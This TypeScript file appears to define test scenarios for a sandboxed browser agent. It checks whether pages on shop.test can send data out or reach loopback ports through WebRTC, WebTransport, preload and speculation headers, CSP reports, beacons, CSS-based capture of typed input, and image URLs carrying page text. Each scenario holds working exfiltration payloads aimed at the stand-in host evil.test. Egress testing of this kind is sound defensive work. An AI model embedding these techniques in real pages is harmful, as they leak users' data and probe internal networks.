import type { Page, Places, Scenario, Served } from "../scenario.ts";

const STAYS = "words that stay";
/** Says at /fired that its script is done. */
const FIRED = `await fetch("/fired").catch(() => {});`;

const html = (markup: string, script = "", headers: Readonly<Record<string, string>> = {}): Page => ({
  headers,
  body: `<!doctype html><html lang="en"><head><title>below</title><link rel="icon" href="data:,"></head><body><p>${STAYS}</p>${markup}<script type="module">${script}</script></body></html>`,
});

/** `on`: https, since most of it exists only there. */
function opened(
  id: string,
  title: string,
  page: Page | ((at: Places) => Page),
  more: Partial<Scenario> = {},
  files: Served = {},
): Scenario {
  return {
    id,
    title,
    pages: { "shop.test/below": page, ...files },
    calls: [{ navigate: "https://shop.test/below" }],
    under: "closed",
    arrives: "evil",
    stays: STAYS,
    ...more,
  };
}

const gathered = (server: string): string => `
  const peer = new RTCPeerConnection({ iceServers: [${server}] });
  peer.createDataChannel("a");
  const done = new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve(); setTimeout(resolve, 1000); });
  await peer.setLocalDescription();
  await done;
  ${FIRED}`;

const candidate = (host: string, port: number): string => `
  const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
  here.createDataChannel("a");
  await here.setLocalDescription();
  await there.setRemoteDescription(here.localDescription);
  await there.setLocalDescription();
  await here.setRemoteDescription(there.localDescription);
  for (const line of ["1 udp 2113937151 ${host} ${port} typ host", "1 tcp 2113937151 ${host} ${port} typ host tcptype passive"])
    await here.addIceCandidate({ candidate: "candidate:1 " + line, sdpMid: "0", sdpMLineIndex: 0 });
  await new Promise((resolve) => setTimeout(resolve, 700));
  ${FIRED}`;

const webRtc: readonly Scenario[] = [
  opened("A-101", "STUN over UDP", ({ evilPort }) => html("", gathered(`{ urls: "stun:127.0.0.1:${evilPort}" }`)), {
    arrives: "evil-udp",
  }),
  opened(
    "A-101",
    "TURN over UDP",
    ({ evilPort }) =>
      html("", gathered(`{ urls: "turn:127.0.0.1:${evilPort}?transport=udp", username: "a", credential: "b" }`)),
    {
      arrives: "evil-udp",
    },
  ),
  opened(
    "A-101",
    "TURN over TCP",
    ({ evilPort }) =>
      html("", gathered(`{ urls: "turn:127.0.0.1:${evilPort}?transport=tcp", username: "a", credential: "b" }`)),
    {
      arrives: "evil-connection",
    },
  ),
  opened("A-101", "a candidate over TCP and UDP", ({ evilPort }) => html("", candidate("127.0.0.1", evilPort)), {
    arrives: "evil-connection",
  }),
  opened("A-101", "a candidate by name", ({ evilPort }) => html("", candidate("localhost", evilPort)), {
    arrives: "evil-connection",
  }),
];

const transport: readonly Scenario[] = [
  opened(
    "A-102",
    "WebTransport",
    ({ evilPort }) =>
      html(
        "",
        `await Promise.race([new WebTransport("https://127.0.0.1:${evilPort}/x").ready.catch(() => {}), new Promise((r) => setTimeout(r, 700))]); ${FIRED}`,
      ),
    {
      arrives: "evil-udp",
    },
  ),
  opened(
    "A-103",
    "hints in headers",
    html(`<img alt="" src="/own.png">`, FIRED, {
      link: `<https://evil.test/preload>; rel=preload; as=script, <https://evil.test>; rel=preconnect, <https://evil.test/prefetch>; rel=prefetch`,
    }),
  ),
  opened(
    "A-103",
    "speculation rules by header",
    html("", `await new Promise((r) => setTimeout(r, 300)); ${FIRED}`, { "speculation-rules": `"/rules.json"` }),
    {},
    {
      "shop.test/rules.json": {
        headers: { "content-type": "application/speculationrules+json" },
        body: JSON.stringify({
          prefetch: [{ source: "list", urls: ["https://evil.test/speculated"], eagerness: "immediate" }],
        }),
      },
    },
  ),
];

const reports: readonly Scenario[] = [
  opened(
    "A-105",
    "CSP report to a reporting endpoint",
    html(`<img alt="" src="/x.png">`, `await new Promise((r) => setTimeout(r, 300)); ${FIRED}`, {
      "reporting-endpoints": `far="https://evil.test/reporting"`,
      "content-security-policy": "img-src 'none'; report-to far",
    }),
    { notCounted: "the Reporting API sends after a minute or when the browser likes" },
  ),
  opened(
    "A-105",
    "keepalive and beacon as the page is left",
    html(
      "",
      `addEventListener("pagehide", () => { navigator.sendBeacon("https://evil.test/left", "a"); fetch("https://evil.test/left", { method: "POST", body: "a", keepalive: true, mode: "no-cors" }); });`,
    ),
    {
      calls: [{ navigate: "https://shop.test/below" }, { navigate: "https://docs.test/" }],
      stays: "at docs.test/",
    },
  ),
];

const styles: readonly Scenario[] = [
  opened(
    "A-106",
    "what is typed, told by style sheets",
    html(
      `<style>@font-face { font-family: x; src: url(https://evil.test/font); unicode-range: U+0073 } input { font-family: x }
     input[value^="s"] { background: url(https://evil.test/starts) }</style><label>Name <input oninput="this.setAttribute('value', this.value)"></label>`,
    ),
    {
      calls: [{ navigate: "https://shop.test/below" }, { type: 'textbox "Name"', text: "s3cret" }],
      refused: "reach.asset",
    },
  ),
  opened(
    "A-107",
    "data in the address of a picture on a host that nobody named",
    html("", `new Image().src = "https://evil.test/p.png?" + encodeURIComponent(document.body.innerText);`),
    { refused: "reach.asset" },
  ),
  opened(
    "A-100",
    "base, SVG, import map, blob and data frames",
    html(
      `<base href="https://evil.test/"><script type="importmap">{"imports":{"far":"https://evil.test/mapped.js"}}</script><img alt="" src="based.png">
     <iframe srcdoc="&lt;img src='https://evil.test/srcdoc.png'&gt;"></iframe>`,
      `import("far").catch(() => {}); const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<img src='https://evil.test/blob.png'>"], { type: "text/html" })); document.body.append(f);`,
    ),
    { parts: ["based.png", "mapped.js", "srcdoc.png", "blob.png"] },
  ),
];

const inside: readonly Scenario[] = [
  opened(
    "A-108",
    "frame, picture, fetch and socket to the intranet",
    ({ internalPort }) =>
      html(
        `<iframe src="http://127.0.0.1:${internalPort}/frame"></iframe><img alt="" src="http://127.0.0.1:${internalPort}/picture">`,
        `fetch("http://127.0.0.1:${internalPort}/fetch", { mode: "no-cors" }).catch(() => {}); new WebSocket("ws://127.0.0.1:${internalPort}/socket");`,
      ),
    {
      calls: [{ navigate: "http://shop.test/below" }],
      arrives: "internal",
      parts: ["frame", "picture", "fetch", "socket"],
    },
  ),
  opened(
    "A-108",
    "the same where that origin is opened to the agent",
    ({ internalPort }) =>
      html(
        `<iframe src="http://localhost:${internalPort}/frame"></iframe><img alt="" src="http://localhost:${internalPort}/picture">`,
        `fetch("http://localhost:${internalPort}/fetch", { mode: "no-cors" }).catch(() => {}); new WebSocket("ws://localhost:${internalPort}/socket");`,
      ),
    {
      calls: [{ navigate: "http://shop.test/below" }],
      under: "closed, loopback open",
      arrives: "internal",
      parts: ["frame", "picture", "fetch", "socket"],
    },
  ),
];

/**
 * Each asks and tells evil.test, by a picture that is refused anyway, only what it got: the verdict is what the page
 * reports to itself.
 */
const features: Scenario = opened(
  "A-110",
  "permissions and devices are denied, and nothing waits for an answer",
  html(
    `<button id="go">Go</button>`,
    `
  const soon = (promise) => Promise.race([Promise.resolve().then(promise).then(() => "granted", () => "denied"), new Promise((r) => setTimeout(r, 1500, "waiting"))]);
  document.querySelector("#go").onclick = async () => {
    const asked = {
      geolocation: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
      notification: async () => { if (await Notification.requestPermission() !== "granted") throw 0; },
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia({ video: true }),
      midi: () => navigator.requestMIDIAccess({ sysex: true }),
      usb: () => navigator.usb.requestDevice({ filters: [] }),
      hid: async () => { if ((await navigator.hid.requestDevice({ filters: [] })).length === 0) throw 0; },
      serial: () => navigator.serial.requestPort(),
      bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
      clipboard: () => navigator.clipboard.readText(),
      files: () => showOpenFilePicker(),
      fonts: async () => { if ((await queryLocalFonts()).length === 0) throw 0; },
      idle: async () => { if (await IdleDetector.requestPermission() !== "granted") throw 0; },
    };
    const found = await Promise.all(Object.entries(asked).map(async ([name, ask]) => [name, await soon(ask)]));
    try { navigator.registerProtocolHandler("web+x", "/%s"); } catch {}
    document.querySelector("p").append(" told: " + found.filter(([, how]) => how !== "denied").map((each) => each.join(" ")).join(", ") + ".");
    ${FIRED}
  };`,
  ),
  {
    calls: [{ navigate: "https://shop.test/below" }, { click: 'button "Go"' }],
    notCounted: "Chromium without a window denies most of it by itself",
    stays: "told: .",
  },
);

const downloads: readonly Scenario[] = [
  opened("A-111", "downloads from a refused site", html(`<a download href="https://evil.test/file.bin">Go</a>`), {
    calls: [{ navigate: "https://shop.test/below" }, { click: 'link "Go"' }],
    refused: "reach.",
  }),
];

export const belowScenarios: readonly Scenario[] = [
  ...styles,
  ...webRtc,
  ...transport,
  ...reports,
  ...inside,
  features,
  ...downloads,
];
